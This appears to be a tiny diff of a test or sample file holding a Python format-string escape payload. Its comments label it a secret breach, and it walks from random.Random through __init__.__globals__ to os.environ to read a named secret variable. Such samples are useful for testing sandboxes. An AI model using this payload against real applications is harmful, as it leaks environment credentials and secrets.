@@ -1,5 +1,4 @@
 # str.format walks attributes to os.environ.
 # breach: secret
-# state: kept
 import random
 ("{0.__init__.__globals__[_os].environ[" + SECRET_NAME + "]}").format(random.Random())
